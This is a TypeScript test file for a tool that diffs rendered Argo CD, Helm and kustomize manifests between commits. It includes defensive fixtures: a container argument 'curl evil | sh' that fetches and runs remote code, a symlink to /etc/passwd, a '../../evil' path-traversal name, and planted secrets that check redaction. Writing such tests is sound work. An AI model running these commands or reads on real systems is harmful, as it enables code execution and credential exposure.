import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { carryOutDiff, type CarriedOutDiff } from '../../src/commands/diff/carry-out.js';
import { renderedDiffLines } from '../../src/core/report/rendered-diff-lines.js';
import { renderedDiffJson } from '../../src/core/report/rendered-diff-report.js';
import { readSettings, type RawInputs } from '../../src/settings.js';
import { commitAll, createClone } from '../support/author.js';
import { createRealClock } from '../support/real-clock.js';
import { scratchFolder, startWorld, token, type Cleanup } from '../support/world.js';

type Files = Readonly<Record<string, string | Buffer | null>>;
const repoURL = 'https://git.example.com/org/config';
/** RENDER_TOOLS names a folder with kustomize and helm; otherwise those on the PATH are used. */
const tools = [process.env['RENDER_TOOLS'] ?? '', process.env['PATH'] ?? ''].filter((part) => part !== '').join(delimiter);

function missing(...names: readonly string[]): boolean {
  const found = names.every((name) => tools.split(delimiter).some((folder) => existsSync(join(folder, name))));
  if (!found && process.env['CONFORMANCE'] === 'required') throw new Error(`not all of ${names.join(', ')} are on PATH`);
  if (!found) console.warn(`skipped: not all of ${names.join(', ')} are on PATH or in RENDER_TOOLS`);
  return !found;
}

const application = (name: string, source: string, more = ''): string => `---\napiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: ${name}, namespace: argocd${more}}\nspec:\n  project: default\n  source: {repoURL: "${repoURL}", ${source}}\n  destination: {server: s, namespace: shop}\n`;
const service = (name: string, port = 80): string => `---\napiVersion: v1\nkind: Service\nmetadata: {name: ${name}}\nspec: {ports: [{port: ${port}}]}\n`;
const deployment = (tag: string): string => `---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {replicas: 2, template: {spec: {containers: [{name: web, image: "web:${tag}"}]}}}\n`;

interface Repository {
  readonly folder: string;
  readonly temporary: string;
  readonly commit: (files: Files) => void;
  readonly git: (...args: readonly string[]) => string;
  readonly run: (inputs?: RawInputs, env?: Readonly<Record<string, string>>) => Promise<CarriedOutDiff>;
}

/** A repository with a first commit. Runs compare `HEAD~1` with `HEAD`. */
function repository(context: Cleanup, first: Files): Repository {
  const folder = scratchFolder(context);
  const temporary = scratchFolder(context);
  const git = (...args: readonly string[]): string => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd: folder, encoding: 'utf8' });
  const commit = (files: Files): void => {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      if (text === null) rmSync(join(folder, path));
      else writeFileSync(join(folder, path), text);
    }
    commitAll(folder, { message: 'change' });
  };
  createClone(folder, repoURL);
  commit(first);
  return {
    folder, temporary, commit, git,
    run: async (inputs = {}, env = {}) => {
      const { settings, problems } = await readSettings({ command: 'diff', ...inputs }, env);
      if (settings === undefined) return { kind: 'invalid-input', problems };
      return await carryOutDiff(settings, { env: { PATH: tools, HOME: folder, RUNNER_TEMP: temporary, ...env }, clock: createRealClock(), signal: new AbortController().signal, folder });
    },
  };
}

/** What the terminal shows, without colours. */
function shown(outcome: CarriedOutDiff): string {
  if (outcome.kind !== 'told') throw new Error(JSON.stringify(outcome.problems));
  return renderedDiffLines(outcome.report, { color: false }).join('\n');
}

const plain = { 'apps.yaml': application('web', 'path: web'), 'web/all.yaml': `${deployment('1')}${service('old')}` };

describe('a folder of manifests', () => {
  test('shows what the change removes, adds and changes, deletions first', async (context) => {
    const { run, commit, temporary } = repository(context, plain);
    commit({ 'web/all.yaml': `${deployment('2')}${service('new')}` });
    const outcome = await run();
    expect(outcome).toMatchObject({ kind: 'told', exitCode: 0, report: { result: 'succeeded', counts: { removed: 1, added: 1, changed: 1 } } });
    expect(shown(outcome)).toBe([
      'web: removes 1, adds 1 and changes 1 resources',
      '  what is removed stays in the cluster until a sync prunes it',
      '  - Service shop/old',
      '  + Service shop/new',
      '  ~ Deployment shop/web',
      '      - spec.template.spec.containers[web].image: web:1',
      '      + spec.template.spec.containers[web].image: web:2',
      '',
      'The change removes 1, adds 1 and changes 1 resources in 1 application',
    ].join('\n'));
    expect(readdirSync(temporary)).toEqual([]);
  });

  test('in which only comments and order change makes no difference, with `exit-code` too', async (context) => {
    const { run, commit } = repository(context, plain);
    commit({ 'web/all.yaml': `# moved\n${service('old')}${deployment('1').replace('{replicas: 2, ', '{').replace(']}}}', ']}}, replicas: 2}')}` });
    const outcome = await run({ 'exit-code': 'true' });
    expect(outcome).toMatchObject({ exitCode: 0, report: { result: 'nothing-to-do', headline: 'The change makes no difference to the 1 application that it touches' } });
  });

  test('that differs is a finding where `exit-code` asks for it', async (context) => {
    const { run, commit } = repository(context, plain);
    commit({ 'web/all.yaml': service('old') });
    expect(await run({ 'exit-code': 'true' })).toMatchObject({ exitCode: 2, report: { result: 'succeeded' } });
  });

  test('OSOP-DIFF-001: that cannot be read is not told as a difference, nor as none', async (context) => {
    const { run, commit } = repository(context, plain);
    commit({ 'web/all.yaml': 'apiVersion: v1\nkind: Service\nmetadata: {name: a\n' });
    expect(await run()).toMatchObject({ exitCode: 2, report: { result: 'unknown', counts: { removed: 0, added: 0, changed: 0 }, problems: [{ code: 'OSOP-DIFF-001', where: { file: 'web/all.yaml' } }] } });
  });

  test('passes over what is no manifest at all, and not over what should be one', async (context) => {
    const { run, commit } = repository(context, { ...plain, 'web/values.yaml': 'replicas: 1\n', 'web/template.yaml': '{{ if }}\n' });
    commit({ 'web/values.yaml': 'replicas: 2\n', 'web/template.yaml': '{{ else }}\n' });
    expect(await run()).toMatchObject({ report: { result: 'nothing-to-do' } });
    commit({ 'web/values.yaml': `replicas: 2\n${service('more')}` });
    expect(await run()).toMatchObject({ report: { result: 'unknown', problems: [{ message: expect.stringContaining('web/values.yaml holds something without a kind or an apiVersion') }] } });
  });

  test.each<readonly [name: string, text: string, why: string]>([
    ['nested deeper than is read here', `{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a"}, "x": ${'['.repeat(100)}${']'.repeat(100)}}\n`, 'nested'],
    ['written as JSON that is broken off', '{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a"}\n', 'web/more.yaml'],
    ['UTF-16', '\uFEFFapiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n', 'web/more.yaml is UTF-16'],
  ])('OSOP-DIFF-001, T13: does not pass over a file that Argo CD may deploy: %s', async (name, text, why) => {
    const { run, commit } = repository({ onTestFinished }, plain);
    commit({ 'web/more.yaml': name === 'UTF-16' ? Buffer.from(text, 'utf16le') : text });
    const outcome = await run();
    expect(outcome).toMatchObject({ exitCode: 2, report: { result: 'unknown', problems: [{ code: 'OSOP-DIFF-001', where: { file: 'web/more.yaml' } }] } });
    expect(outcome.kind === 'told' ? `${outcome.report.problems[0]?.message} ${outcome.report.problems[0]?.where?.file}` : '').toContain(why);
  });

  test('OSOP-DIFF-001, T11: does not pass over a submodule that Argo CD goes into', async (context) => {
    const { run, git } = repository(context, { ...plain, 'apps.yaml': application('web', 'path: web, directory: {recurse: true}') });
    git('update-index', '--add', '--cacheinfo', `160000,${'b'.repeat(40)},web/sub`);
    git('commit', '-qm', 'more');
    expect(await run()).toMatchObject({ exitCode: 2, report: { result: 'unknown', problems: [{ message: expect.stringContaining('web/sub is a submodule') }] } });
  });

  test('leaves out files that say so to Argo CD', async (context) => {
    const { run, commit } = repository(context, plain);
    commit({ 'web/more.yaml': `# +argocd:skip-file-rendering\n${service('more')}` });
    expect(await run()).toMatchObject({ report: { result: 'nothing-to-do' } });
  });

  test('with a link in it that leads elsewhere is not read through it', async (context) => {
    const { run, commit, folder } = repository(context, plain);
    symlinkSync('/etc/passwd', join(folder, 'web/passwd.yaml'));
    commit({ 'web/all.yaml': service('old') });
    expect(await run()).toMatchObject({ report: { result: 'unknown', problems: [{ message: expect.stringContaining('web/passwd.yaml is a symbolic link') }] } });
  });
});

test('OSOP-INPUT-001: a pattern of names that cannot be read chooses nothing, and is no clean result', async (context) => {
  const { run, commit } = repository(context, plain);
  commit({ 'web/all.yaml': service('old') });
  expect(await run({ app: 'web, api[1-' })).toMatchObject({ kind: 'invalid-input', problems: [{ code: 'OSOP-INPUT-001', message: 'input app: "api[1-" is no pattern' }] });
});

test('OSOP-INPUT-001: a name that nothing has is no application without differences', async (context) => {
  const { run, commit } = repository(context, plain);
  commit({ 'README.md': 'words' });
  expect(await run({ app: 'web', 'exit-code': 'true' })).toMatchObject({ kind: 'told', exitCode: 0, report: { result: 'nothing-to-do' } });
  expect(await run({ app: 'wbe, web', 'exit-code': 'true' })).toMatchObject({ kind: 'invalid-input', problems: [{ code: 'OSOP-INPUT-001', message: 'input app: no file of this repository defines an application called wbe' }] });
});

describe('an Application', () => {
  test('that is new brings all of its objects, and one that goes says what becomes of them', async (context) => {
    const cascading = application('gone', 'path: web', ', finalizers: [resources-finalizer.argocd.argoproj.io]');
    const { run, commit } = repository(context, { ...plain, 'apps.yaml': `${plain['apps.yaml']}${cascading}` });
    commit({ 'apps.yaml': `${plain['apps.yaml']}${application('come', 'path: web')}` });
    const outcome = await run();
    expect(shown(outcome)).toContain('gone (removed): removes 2 resources\n  the Application goes, and what it deployed with it\n');
    expect(shown(outcome)).toContain('come (added): adds 2 resources\n  + Deployment shop/web (web:1, 2 replicas)\n');
  });

  test('whose definition alone changes shows that', async (context) => {
    const { run, commit } = repository(context, plain);
    commit({ 'apps.yaml': `${plain['apps.yaml']}  syncPolicy: {automated: {}}\n` });
    const outcome = await run();
    expect(shown(outcome)).toContain('web: no difference\n  ~ the Application itself\n      + spec.syncPolicy:\n      +   automated: {}\n');
    expect(outcome).toMatchObject({ report: { headline: 'The change changes the definition of 1 application' } });
  });

  test('that pins a tag is rendered at that tag', async (context) => {
    const { run, commit, git } = repository(context, { ...plain, 'apps.yaml': application('web', 'path: web, targetRevision: v1') });
    git('tag', 'v1');
    commit({ 'web/all.yaml': deployment('2') });
    git('tag', 'v2');
    commit({ 'apps.yaml': application('web', 'path: web, targetRevision: v2'), 'web/all.yaml': deployment('3') });
    const outcome = await run();
    expect(shown(outcome)).toContain('+ spec.template.spec.containers[web].image: web:2');
    expect(shown(outcome)).not.toContain('web:3');
    commit({ 'apps.yaml': application('web', 'path: web, targetRevision: v9') });
    expect(await run()).toMatchObject({ exitCode: 2, report: { problems: [{ code: 'OSOP-DIFF-001', message: expect.stringContaining('its revision v9 is not in this clone') }] } });
  });

  test('that is not asked for by `app` is not shown', async (context) => {
    const { run, commit } = repository(context, { ...plain, 'apps.yaml': `${plain['apps.yaml']}${application('api', 'path: web')}` });
    commit({ 'web/all.yaml': service('old') });
    for (const app of ['a*', 'api', 'argocd/api']) expect(await run({ app })).toMatchObject({ report: { apps: [{ row: { id: 'api' } }], affected: { affected: ['api'] } } });
  });

  test('to which the same happens as to others is shown with them', async (context) => {
    const { run, commit } = repository(context, { ...plain, 'apps.yaml': ['a', 'b', 'c'].map((name) => application(name, 'path: web')).join('') });
    commit({ 'web/all.yaml': deployment('1') });
    expect(shown(await run())).toContain('a, b and c: removes 1 resource, 1 the same, in each of them\n');
  });
});

describe('a chart of a registry', () => {
  const several = (version: string): string => `---\napiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: redis}\nspec:\n  destination: {namespace: shop}\n  sources: [{repoURL: "https://charts.example.com", chart: redis, targetRevision: ${version}, helm: {valueFiles: ["$v/redis.yaml"]}}, {repoURL: "${repoURL}", ref: v, path: redis}]\n`;
  const files = { 'apps.yaml': several('1.0.0'), 'redis.yaml': 'a: 1', 'redis/s.yaml': service('old') };

  test('OSOP-DIFF-001: is not known where its version or its values change, and the rest is compared', async (context) => {
    const { run, commit } = repository(context, files);
    commit({ 'redis.yaml': 'a: 2', 'redis/s.yaml': service('new') });
    const outcome = await run();
    expect(outcome).toMatchObject({ exitCode: 2, report: { result: 'unknown', counts: { removed: 1, added: 1 }, problems: [{ code: 'OSOP-DIFF-001', message: 'redis could not be compared: chart redis 1.0.0 of https://charts.example.com: it is no folder of this repository' }] } });
    commit({ 'apps.yaml': several('1.0.1') });
    expect(await run()).toMatchObject({ exitCode: 2 });
  });

  test('is no gap where the change does not touch it', async (context) => {
    const { run, commit } = repository(context, files);
    commit({ 'redis/s.yaml': service('new') });
    expect(await run()).toMatchObject({ exitCode: 0, report: { result: 'succeeded', apps: [{ gaps: [], notes: [expect.stringContaining('is not rendered: the change does not touch it'), expect.anything()] }] } });
  });
});

test('OSOP-DIFF-001: without the tool that renders a source nothing is said about it', async (context) => {
  const { run, commit } = repository(context, { 'apps.yaml': application('web', 'path: web'), 'web/Chart.yaml': 'name: web\nversion: 1.0.0\napiVersion: v2\n', 'web/templates/s.yaml': service('a') });
  commit({ 'web/templates/s.yaml': service('b') });
  const path = scratchFolder(context);
  symlinkSync(execFileSync('which', ['git'], { encoding: 'utf8' }).trim(), join(path, 'git'));
  expect(await run({}, { PATH: path })).toMatchObject({ exitCode: 2, report: { problems: [{ message: 'web could not be compared: its source web: helm is not on the PATH' }] } });
});

test('OSOP-DIFF-002: an application that Argo CD does not tell of is compared in git, and not known against what runs', async (context) => {
  const world = await startWorld(context, { files: { 'apps.yaml': application('nowhere', 'path: web'), 'web/all.yaml': service('old') }, change: { 'web/all.yaml': service('old', 81) }, depth: 0 });
  const { settings } = await readSettings({ 'command': 'diff', 'base': 'HEAD~1', 'config-repository': repoURL, 'config-branch': 'main', 'argocd-server': world.argocdUrl, 'argocd-auth-token': token }, {});
  if (settings === undefined) throw new Error('the settings are wrong');
  const outcome = await carryOutDiff(settings, { env: { PATH: tools, HOME: world.folder }, clock: createRealClock(), signal: new AbortController().signal, folder: world.checkout });
  expect(outcome).toMatchObject({ exitCode: 2, report: { result: 'unknown', problems: [{ code: 'OSOP-DIFF-002', message: expect.stringContaining('nowhere could not be compared with what runs: Asked to read the resources of application nowhere, Argo CD answered 403') }] } });
  expect(shown(outcome)).toContain('~ Service shop/old');
  expect(world.changes()).toEqual([]);
});

describe('the patch', () => {
  test('has a file for each object, is one that git understands, and no secret is in it or anywhere', async (context) => {
    const secret = (value: string): string => `---\napiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData: {password: ${value}}\n`;
    const { run, commit, folder } = repository(context, { ...plain, 'web/all.yaml': `${plain['web/all.yaml']}${secret('first-password-1')}` });
    commit({ 'web/all.yaml': `${deployment('2')}${service('../../evil')}${secret('second-password-2')}---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata: {token: second-password-2, own: token-of-the-run}\n` });
    const outcome = await run({ 'patch-file': 'out/rendered.patch', 'report': 'out/diff.html' }, { GITHUB_TOKEN: 'token-of-the-run' });
    if (outcome.kind !== 'told') throw new Error(JSON.stringify(outcome));
    const patch = readFileSync(join(folder, 'out/rendered.patch'), 'utf8');
    expect(execFileSync('git', ['apply', '--numstat', join(folder, 'out/rendered.patch')], { cwd: folder, encoding: 'utf8' }).split('\n').filter((line) => line !== '').toSorted()).toEqual([
      '0\t7\tweb/shop/Service/old.yaml', '1\t1\tweb/shop/Deployment.apps/web.yaml', '1\t1\tweb/shop/Secret/db.yaml', '7\t0\tweb/shop/ConfigMap/c.yaml', '7\t0\tweb/shop/Service/.._.._evil.yaml',
    ]);
    expect(outcome.files).toEqual({ 'report': join(folder, 'out/diff.html'), 'patch-file': join(folder, 'out/rendered.patch') });
    for (const text of [patch, readFileSync(join(folder, 'out/diff.html'), 'utf8'), shown(outcome), JSON.stringify(renderedDiffJson(outcome.report, { exitCode: 0, files: {} }))]) {
      expect(text).not.toMatch(/first-password|second-password|token-of-the-run/);
      expect(text).toContain('***');
    }
  });

  test('OSOP-INPUT-004: that cannot be written is told', async (context) => {
    const { run, commit } = repository(context, plain);
    commit({ 'web/all.yaml': deployment('2') });
    expect(await run({ 'patch-file': 'apps.yaml/x.patch' })).toMatchObject({ kind: 'invalid-input', problems: [{ code: 'OSOP-INPUT-004', message: expect.stringContaining('the patch could not be written') }] });
  });
});

describe.skipIf(missing('helm', 'kustomize'))('rendered by the tools', () => {
  const chart = {
    'web/Chart.yaml': 'apiVersion: v2\nname: web\nversion: 1.0.0\ndependencies: [{name: lib, version: 0.1.0, repository: "file://../lib"}]\n',
    'web/values.yaml': 'tag: "1"\nreplicas: 1\n',
    'web/values-prod.yaml': 'replicas: 5\n',
    'web/templates/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: {{ .Release.Name }}, annotations: {once: {{ randAlphaNum 9 | quote }}}}\nspec: {replicas: {{ .Values.replicas }}, template: {spec: {containers: [{name: {{ include "lib.name" . }}, image: "web:{{ .Values.tag }}"}]}}}\n',
    'lib/Chart.yaml': 'apiVersion: v2\nname: lib\nversion: 0.1.0\ntype: library\n', 'lib/templates/_n.tpl': '{{ define "lib.name" }}main{{ end }}',
  };

  test('a chart has the values and parameters of its Application; what a template makes by chance is counted', async (context) => {
    const { run, commit, folder } = repository(context, { ...chart, 'apps.yaml': application('prod', 'path: web, helm: {valueFiles: [values-prod.yaml], parameters: [{name: tag, value: "7"}]}') });
    commit({ 'web/values-prod.yaml': 'replicas: 6\n' });
    expect(shown(await run())).toBe([
      'prod: changes 1 resource', '  ~ Deployment shop/prod', '      - spec.replicas: 5', '      + spec.replicas: 6', '        (not shown: 1 value that is made anew at each rendering)', '',
      'The change changes 1 resource in 1 application',
    ].join('\n'));
    expect(existsSync(join(folder, 'web/charts'))).toBe(false);
  });

  test('a change is shown where only what it brings is made by chance', async (context) => {
    const before = chart['web/templates/d.yaml'].replace('image: "web:{{ .Values.tag }}"', 'image: "web:{{ .Values.tag }}", args: [serve]');
    const { run, commit } = repository(context, { ...chart, 'web/templates/d.yaml': before, 'apps.yaml': application('prod', 'path: web') });
    commit({ 'web/templates/d.yaml': before.replace('"web:{{ .Values.tag }}"', '"evil:{{ randAlphaNum 9 | lower }}"').replace('[serve]', '["curl evil | sh # {{ randAlphaNum 9 }}"]') });
    expect(shown(await run())).toMatch(/\+ spec\.template\.spec\.containers\[main\]\.image: evil:[^]*curl evil \| sh #[^]*\(not shown: 1 value that/);
  });

  test('an overlay has what it inherits, and the options of its Application', async (context) => {
    const files = { 'base/kustomization.yaml': 'resources: [d.yaml]\n', 'base/d.yaml': deployment('1'), 'prod/kustomization.yaml': 'resources: [../base]\nimages: [{name: web, newName: registry/web, newTag: "1"}]\nconfigMapGenerator: [{name: conf, literals: [a=1]}]\n' };
    const { run, commit } = repository(context, { ...files, 'apps.yaml': `${application('prod', 'path: prod')}${application('staging', 'path: prod, kustomize: {images: ["web:9"], namePrefix: s-}')}` });
    commit({ 'prod/kustomization.yaml': files['prod/kustomization.yaml'].replace('newTag: "1"', 'newTag: "2"').replace('a=1', 'a=2') });
    const outcome = await run();
    expect(outcome).toMatchObject({ exitCode: 0, report: { counts: { removed: 0, added: 0, changed: 3 }, apps: [
      { row: { id: 'prod' }, rendered: { objects: [{ changes: [{ path: 'spec.template.spec.containers[web].image', before: 'registry/web:1', after: 'registry/web:2' }] }, { object: { kind: 'ConfigMap' }, renamedFrom: expect.stringContaining('conf-') }] } },
      { row: { id: 'staging' }, rendered: { objects: [{ object: { kind: 'ConfigMap' } }], same: 1 } },
    ] } });
  });
});
